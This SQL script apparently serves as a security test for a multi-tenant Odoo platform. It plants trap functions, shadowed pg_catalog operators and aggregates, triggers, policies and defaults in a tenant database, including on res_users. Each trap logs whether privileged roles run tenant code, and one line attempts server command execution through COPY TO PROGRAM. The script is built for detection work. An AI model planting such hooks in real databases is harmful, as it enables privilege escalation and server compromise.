-- What a tenant may write into its own database, as its own role, in every place where PostgreSQL runs a tenant's code.
-- Each place calls evil.spring(place): one line of the server's log says who ran it, and whether that is, or can become, a superuser.
CREATE SCHEMA evil;

CREATE FUNCTION evil.spring(place text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE
    might boolean := false;
    once text := 'evil.seen_' || pg_catalog.md5(pg_catalog.concat(place, current_user, session_user));
BEGIN
    IF pg_catalog.current_setting(once, true) IS NOT NULL THEN
        RETURN true;
    END IF;
    PERFORM pg_catalog.set_config(once, 'yes', false);
    BEGIN
        EXECUTE 'SET ROLE NONE';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    SELECT bool_or(pg_catalog.pg_has_role(whose, r.oid, 'MEMBER')) INTO might
      FROM pg_catalog.pg_roles r, (VALUES (current_user::name), (session_user::name)) who (whose)
     WHERE r.rolsuper OR r.rolname IN ('pg_execute_server_program', 'pg_write_server_files',
       'pg_read_server_files', 'pg_read_all_data', 'pg_write_all_data', 'pg_signal_backend');
    BEGIN
        EXECUTE 'COPY (SELECT 1) TO PROGRAM ''cat >> /tmp/sprung''';
        might := true;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RAISE LOG 'ipai-trap|%|%|%|%|%|', pg_catalog.current_database(), place, current_user, session_user,
        CASE WHEN might THEN 'SUPERUSER' ELSE 'ordinary' END;
    RETURN true;
END $$;
CREATE FUNCTION evil.fixed(place text, value text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM evil.spring(place);
    RETURN pg_catalog.md5(value);
END $$;

-- Functions, aggregates and operators that stand before PostgreSQL's own.
CREATE FUNCTION evil.to_char(timestamptz, text) RETURNS text LANGUAGE sql AS
    $$ SELECT CASE WHEN evil.spring('function to_char') THEN pg_catalog.to_char($1, $2) END $$;
CREATE FUNCTION evil.to_regclass(text) RETURNS regclass LANGUAGE sql AS
    $$ SELECT CASE WHEN evil.spring('function to_regclass') THEN pg_catalog.to_regclass($1) END $$;
CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE sql AS
    $$ SELECT CASE WHEN evil.spring('function now') THEN pg_catalog.now() END $$;
CREATE FUNCTION evil.pg_export_snapshot() RETURNS text LANGUAGE sql AS
    $$ SELECT CASE WHEN evil.spring('function pg_export_snapshot') THEN pg_catalog.pg_export_snapshot() END $$;
CREATE FUNCTION evil.pg_database_size(oid) RETURNS bigint LANGUAGE sql AS
    $$ SELECT CASE WHEN evil.spring('function pg_database_size') THEN pg_catalog.pg_database_size($1) END $$;
CREATE FUNCTION evil.format(text, name, name) RETURNS text LANGUAGE sql AS
    $$ SELECT CASE WHEN evil.spring('function format') THEN pg_catalog.format($1, $2, $3) END $$;
CREATE FUNCTION evil.step(bigint) RETURNS bigint LANGUAGE sql AS
    $$ SELECT $1 + 1 WHERE evil.spring('aggregate count') $$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.step, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION evil.same(varchar, text) RETURNS boolean LANGUAGE sql AS
    $$ SELECT evil.spring('operator =') AND $1 OPERATOR(pg_catalog.=) $2 $$;
CREATE OPERATOR evil.= (LEFTARG = varchar, RIGHTARG = text, FUNCTION = evil.same);

-- Types, domains, casts, collations, ranges, text search, statistics.
CREATE DOMAIN evil.checked AS text CHECK (evil.spring('domain'));
CREATE TYPE evil.mood AS ENUM ('good', 'bad');
CREATE TYPE evil.pair AS (one text, two text);
CREATE FUNCTION evil.said(evil.pair) RETURNS text LANGUAGE sql AS
    $$ SELECT CASE WHEN evil.spring('cast') THEN ($1).one END $$;
CREATE CAST (evil.pair AS text) WITH FUNCTION evil.said(evil.pair) AS IMPLICIT;
CREATE FUNCTION evil.distance(float8, float8) RETURNS float8 LANGUAGE sql IMMUTABLE AS
    $$ SELECT CASE WHEN evil.fixed('range', 'x') IS NOT NULL THEN $1 - $2 END $$;
CREATE TYPE evil.span AS RANGE (SUBTYPE = float8, SUBTYPE_DIFF = evil.distance);
CREATE COLLATION evil.ordering (PROVIDER = icu, LOCALE = 'de');
CREATE TEXT SEARCH DICTIONARY evil.words (TEMPLATE = pg_catalog.simple);
CREATE TEXT SEARCH CONFIGURATION evil.search (COPY = pg_catalog.simple);

-- A table with a trap in each part, row security that binds its owner too, and rows in it.
CREATE TABLE public.trap_guarded (
    id serial PRIMARY KEY,
    word text DEFAULT evil.fixed('default', 'x') COLLATE evil.ordering,
    made text GENERATED ALWAYS AS (evil.fixed('generated column', word)) STORED,
    CONSTRAINT trap_check CHECK (evil.spring('check constraint')),
    spoken evil.checked DEFAULT 'x',
    mood evil.mood DEFAULT 'good',
    pair evil.pair CHECK (pair IS NULL OR (pair)::text <> ''),
    span evil.span DEFAULT '[1,2]'
);
CREATE INDEX ON public.trap_guarded (evil.fixed('index', word));
CREATE INDEX ON public.trap_guarded USING gist (span);
CREATE INDEX ON public.trap_guarded (id) WHERE evil.fixed('partial index', word) IS NOT NULL;
CREATE STATISTICS public.trap_statistics ON (evil.fixed('statistics', word)), id FROM public.trap_guarded;
INSERT INTO public.trap_guarded (word, pair) SELECT g::text, ROW('a', 'b')::evil.pair FROM generate_series(1, 3) g;
ALTER TABLE public.trap_guarded ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY trap_policy ON public.trap_guarded USING (evil.spring('row policy')) WITH CHECK (evil.spring('row policy'));
CREATE VIEW public.trap_view AS SELECT evil.spring('view') AS sprung;
CREATE MATERIALIZED VIEW public.trap_kept AS SELECT evil.spring('materialized view') AS sprung;
SELECT lo_from_bytea(0, 'a large object');

-- Odoo's own tables, which the platform reads and writes.
CREATE FUNCTION evil.on_row() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM evil.spring('trigger on ' || TG_TABLE_NAME);
    RETURN CASE WHEN TG_OP = 'DELETE' THEN OLD ELSE NEW END;
END $$;
CREATE FUNCTION evil.on_statement() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM evil.spring('statement trigger on ' || TG_TABLE_NAME);
    RETURN NULL;
END $$;
DO $$
DECLARE
    one text;
BEGIN
    FOREACH one IN ARRAY ARRAY['ir_config_parameter', 'ir_attachment', 'res_users', 'ir_module_module'] LOOP
        EXECUTE format('CREATE TRIGGER trap_row BEFORE INSERT OR UPDATE OR DELETE ON public.%I
            FOR EACH ROW EXECUTE FUNCTION evil.on_row()', one);
        EXECUTE format('CREATE TRIGGER trap_statement AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON public.%I
            FOR EACH STATEMENT EXECUTE FUNCTION evil.on_statement()', one);
        EXECUTE format('ALTER TABLE public.%I ADD CONSTRAINT trap_check CHECK (evil.spring(''check on %s'')) NOT VALID', one, one);
        EXECUTE format('ALTER TABLE public.%I ADD trap_default text DEFAULT evil.fixed(''default on %s'', ''x'')', one, one);
    END LOOP;
END $$;
CREATE RULE trap_rule AS ON INSERT TO public.ir_config_parameter DO ALSO SELECT evil.spring('rule');
CREATE INDEX ON public.ir_config_parameter (evil.fixed('index on ir_config_parameter', "key")) WHERE "key" LIKE 'database.%';
ALTER TABLE public.ir_config_parameter ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY trap_policy ON public.ir_config_parameter USING (evil.spring('row policy on ir_config_parameter'));
